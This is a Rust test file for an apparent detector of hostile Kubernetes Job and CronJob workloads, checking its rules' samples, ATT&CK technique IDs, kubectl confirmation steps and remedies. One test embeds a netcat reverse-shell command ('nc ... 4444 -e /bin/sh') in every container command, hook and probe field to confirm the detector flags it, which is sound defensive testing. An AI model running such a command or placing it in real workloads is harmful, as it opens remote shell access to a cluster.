use std::collections::BTreeSet;

use super::*;
use crate::detect::{Findings, detect};
use crate::workload::decode::Object;
use crate::workload::{Kind, Workload};

/// The view of a Job and of a CronJob with this pod spec.
fn workloads(pod_spec: &str) -> [Workload; 2] {
    let pod: serde_json::Value =
        serde_saphyr::from_str(pod_spec).unwrap_or_else(|error| panic!("{error}: {pod_spec}"));
    let template = serde_json::json!({"template": {"spec": pod}});
    let job = serde_json::json!({"metadata": {"name": "sample", "namespace": "n"}, "spec": template});
    let cron_job = serde_json::json!({"metadata": {"name": "sample", "namespace": "n"},
        "spec": {"jobTemplate": {"spec": template}}});
    [(Kind::Job, job), (Kind::CronJob, cron_job)].map(|(kind, object)| {
        let object: Object = serde_json::from_value(object).unwrap();
        Workload::from_object(kind, &object)
    })
}

/// The view of an object as it stands.
fn object(yaml: &str) -> Workload {
    let value: serde_json::Value =
        serde_saphyr::from_str(yaml).unwrap_or_else(|error| panic!("{error}: {yaml}"));
    let kind = if value["kind"] == "CronJob" { Kind::CronJob } else { Kind::Job };
    assert_eq!(value["kind"], kind.as_str(), "{yaml}");
    let object: Object = serde_json::from_value(value).unwrap();
    Workload::from_object(kind, &object)
}

fn most_points(findings: &Findings, rule: &Rule) -> Option<i32> {
    findings
        .by_rule()
        .find(|(found, _)| *found == rule)
        .and_then(|(_, hits)| hits.iter().map(|hit| hit.points).max())
}

#[test]
fn every_rule_proves_itself_on_its_samples() {
    for rule in rules() {
        for sample in rule.samples {
            let (yaml, views, expected) = match sample {
                Sample::Hit(points, yaml) => (yaml, workloads(yaml).to_vec(), Some(*points)),
                Sample::Miss(yaml) => (yaml, workloads(yaml).to_vec(), None),
                Sample::HitObject(points, yaml) => (yaml, vec![object(yaml)], Some(*points)),
                Sample::MissObject(yaml) => (yaml, vec![object(yaml)], None),
                Sample::HitDisproved(points, yaml) => {
                    let mut workload = object(yaml);
                    workload.disprove_owner();
                    (yaml, vec![workload], Some(*points))
                }
            };
            for workload in views {
                let found = most_points(&detect(&workload).findings, rule);
                assert_eq!(found, expected, "{} on a {}:\n{yaml}", rule.id, workload.kind);
            }
        }
    }
}

#[test]
fn every_rule_has_both_kinds_of_sample_and_all_its_words() {
    for rule in rules() {
        let id = rule.id;
        assert!(
            rule.samples.iter().any(|sample| !matches!(sample, Sample::Miss(_) | Sample::MissObject(_))),
            "{id}: no sample that hits"
        );
        assert!(
            rule.samples.iter().any(|sample| matches!(sample, Sample::Miss(_) | Sample::MissObject(_))),
            "{id}: no look-alike"
        );
        assert!(!rule.meaning.is_empty() && !rule.false_positives.is_empty(), "{id}: words are missing");
        assert!((1..=100).contains(&rule.message.len()), "{id}: the message is {} long", rule.message.len());
        assert!(rule.points > 0 && rule.points <= rule.family.cap(), "{id}: points");
        assert!(!rule.techniques.is_empty(), "{id}: no technique");
    }
}

#[test]
fn titles_are_short_unique_noun_phrases() {
    let titles: BTreeSet<_> = rules().map(|rule| rule.title.to_lowercase()).collect();
    assert_eq!(titles.len(), rules().count(), "two rules share a title");
    for rule in rules() {
        let title = rule.title;
        assert!((5..=60).contains(&title.len()), "{}: the title is {} long", rule.id, title.len());
        assert!(title.starts_with(char::is_uppercase) && !title.ends_with('.'), "{}: {title}", rule.id);
    }
}

#[test]
fn ids_are_unique_and_technique_ids_well_formed() {
    let ids: Vec<_> = rules().map(|rule| rule.id).collect();
    assert_eq!(ids.iter().collect::<BTreeSet<_>>().len(), ids.len());
    let technique = regex::Regex::new(r"^T\d{4}(\.\d{3})?$").unwrap();
    for rule in rules() {
        assert!(rule.techniques.iter().all(|id| technique.is_match(id)), "{}", rule.id);
        assert!(
            rule.id
                .chars()
                .all(|letter| letter.is_ascii_lowercase() || letter.is_ascii_digit() || letter == '-'),
            "{}",
            rule.id
        );
    }
}

#[test]
fn a_rule_says_the_same_in_every_place_that_runs_something() {
    let command = r#"[sh, -c, "nc 192.0.2.10 4444 -e /bin/sh"]"#;
    for place in [
        format!("containers: [{{name: a, command: {command}}}]"),
        format!("containers: [{{name: a, args: {command}}}]"),
        format!("initContainers: [{{name: a, command: {command}}}]"),
        format!("initContainers: [{{name: a, restartPolicy: Always, command: {command}}}]"),
        format!("ephemeralContainers: [{{name: a, command: {command}}}]"),
        format!("containers: [{{name: a, lifecycle: {{postStart: {{exec: {{command: {command}}}}}}}}}]"),
        format!("containers: [{{name: a, lifecycle: {{preStop: {{exec: {{command: {command}}}}}}}}}]"),
        format!("containers: [{{name: a, livenessProbe: {{exec: {{command: {command}}}}}}}]"),
        format!("containers: [{{name: a, readinessProbe: {{exec: {{command: {command}}}}}}}]"),
        format!("containers: [{{name: a, startupProbe: {{exec: {{command: {command}}}}}}}]"),
    ] {
        for workload in workloads(&place) {
            let points = most_points(&detect(&workload).findings, rule("cmd-reverse-shell").unwrap());
            assert_eq!(points, Some(50), "{place}");
        }
    }
}

#[test]
fn many_hits_are_counted_and_few_are_kept() {
    let container = r#"{"name":"a","securityContext":{"privileged":true}}"#;
    let containers = vec![container; 5_000].join(",");
    let object: Object = serde_json::from_str(&format!(
        r#"{{"spec":{{"template":{{"spec":{{"containers":[{containers}]}}}}}}}}"#
    ))
    .unwrap();
    let findings = detect(&Workload::from_object(Kind::Job, &object)).findings;
    assert_eq!(findings.total(), 5_000);
    assert_eq!(findings.worst_first().len(), Findings::MAX_KEPT);
}

#[test]
fn every_rule_says_how_to_confirm_and_mend_it() {
    let placeholder = regex::Regex::new(r"<[A-Za-z-]+>|\$\{?[A-Z]|TODO|XXX").unwrap();
    for rule in rules() {
        let id = rule.id;
        assert!((1..=4).contains(&rule.confirm.len()), "{id}: {} steps", rule.confirm.len());
        for step in rule.confirm {
            let (command, look_for) = (step.command(), step.look_for());
            assert!(command.starts_with("kubectl "), "{id}: {command}");
            assert!(look_for.len() >= 3 && look_for.len() <= 320, "{id}: {look_for}");
            assert!(look_for.ends_with(['.', '?']), "{id}: {look_for}");
            assert!(!placeholder.is_match(&command) && !placeholder.is_match(look_for), "{id}: {command}");
        }
        for text in [rule.remedy.attack, rule.remedy.benign] {
            assert!((30..=420).contains(&text.len()), "{id}: {} long: {text}", text.len());
            assert!(text.ends_with('.') && !placeholder.is_match(text), "{id}: {text}");
        }
        let exposes = rule.remedy.exposes;
        assert_eq!(exposes.iter().collect::<BTreeSet<_>>().len(), exposes.len(), "{id}: exposed twice");
        assert!(!rule.references.is_empty(), "{id}: no reference");
        for reference in rule.references {
            assert!(
                reference.starts_with("https://") && !reference.contains("attack.mitre.org"),
                "{id}: {reference}"
            );
        }
    }
}

#[test]
fn every_technique_of_a_rule_is_in_the_table_and_none_is_left_over() {
    let used: BTreeSet<_> = rules().flat_map(|rule| rule.techniques).copied().collect();
    let known: Vec<_> = attack::TECHNIQUES.iter().map(|technique| technique.id).collect();
    assert!(known.is_sorted(), "the table is not in order");
    assert_eq!(used.into_iter().collect::<Vec<_>>(), known);
    for technique in attack::TECHNIQUES {
        assert!(!technique.tactics.is_empty(), "{}", technique.id);
        assert_eq!(technique.parent().is_some(), technique.name.contains(": "), "{}", technique.id);
    }
    let url = attack::technique("T1053.007").unwrap().url();
    assert_eq!(url, "https://attack.mitre.org/techniques/T1053/007/");
}
